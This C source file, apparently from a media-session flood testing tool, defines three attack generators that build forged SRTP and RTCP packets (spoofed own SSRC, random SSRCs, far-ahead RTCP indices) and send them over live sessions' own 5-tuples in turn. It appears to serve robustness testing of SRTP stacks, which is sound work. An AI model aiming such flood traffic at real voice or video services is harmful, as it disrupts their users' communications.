/* The classes sent on a live session's own 5-tuple, from its own socket:
 * forged-own, random-ssrc and forged-rtcp. Batches go to the sessions in
 * turn. */
#include "attack_generator.h"
#include "forged_srtp.h"

#include <glib.h>
#include <stdio.h>

typedef struct {
    flood_session *const *sessions;
    size_t n_sessions;
    size_t next_session;
    uint64_t k; /* packets built so far */
    flood_random random;
} session_cycle;

static void *create_cycle(const attack_environment *env, char *error, size_t error_size)
{
    if (env->n_sessions == 0) {
        snprintf(error, error_size, "no connected session to attack through");
        return NULL;
    }
    session_cycle *c = g_new0(session_cycle, 1);
    c->sessions = env->sessions;
    c->n_sessions = env->n_sessions;
    flood_random_seed(&c->random);
    return c;
}

static flood_session *next_session(session_cycle *c)
{
    flood_session *s = c->sessions[c->next_session];
    c->next_session = (c->next_session + 1) % c->n_sessions;
    return s;
}

static size_t fill_forged_own(void *state, attack_batch *batch, size_t max, uint64_t now_us)
{
    session_cycle *c = state;
    flood_session *s = next_session(c);
    attack_batch_aim_at_session(batch, s);
    for (size_t i = 0; i < max; i++) {
        uint16_t sequence = forged_srtp_sequence_ahead(s, c->k++);
        batch->lengths[i] = forged_srtp_rtp(s, s->ssrc, sequence, &c->random, batch->datagrams[i],
                                            ATTACK_DATAGRAM_CAPACITY);
    }
    return max;
}

static size_t fill_random_ssrc(void *state, attack_batch *batch, size_t max, uint64_t now_us)
{
    session_cycle *c = state;
    flood_session *s = next_session(c);
    attack_batch_aim_at_session(batch, s);
    for (size_t i = 0; i < max; i++) {
        uint32_t ssrc;
        do {
            ssrc = flood_random_u32(&c->random);
        } while (ssrc == 0 || ssrc == s->ssrc);
        uint16_t sequence = (uint16_t)flood_random_u32(&c->random);
        batch->lengths[i] = forged_srtp_rtp(s, ssrc, sequence, &c->random, batch->datagrams[i],
                                            ATTACK_DATAGRAM_CAPACITY);
    }
    c->k += max;
    return max;
}

static size_t fill_forged_rtcp(void *state, attack_batch *batch, size_t max, uint64_t now_us)
{
    session_cycle *c = state;
    flood_session *s = next_session(c);
    attack_batch_aim_at_session(batch, s);
    size_t n = 0;
    for (size_t i = 0; i < max; i++) {
        /* Indices far beyond the legitimate sender's, never seen before. */
        uint32_t index = 0x40000000u + (uint32_t)(c->k++ % 0x3fffffffu);
        size_t length = forged_srtp_rtcp(s, s->ssrc, index, &c->random, batch->datagrams[n],
                                         ATTACK_DATAGRAM_CAPACITY);
        if (length > 0)
            batch->lengths[n++] = length;
    }
    return n;
}

static void destroy_cycle(void *state)
{
    g_free(state);
}

const attack_generator attack_forged_own = {
    .kind = ATTACK_FORGED_OWN,
    .create = create_cycle,
    .fill = fill_forged_own,
    .destroy = destroy_cycle,
};

const attack_generator attack_random_ssrc = {
    .kind = ATTACK_RANDOM_SSRC,
    .create = create_cycle,
    .fill = fill_random_ssrc,
    .destroy = destroy_cycle,
};

const attack_generator attack_forged_rtcp = {
    .kind = ATTACK_FORGED_RTCP,
    .create = create_cycle,
    .fill = fill_forged_rtcp,
    .destroy = destroy_cycle,
};
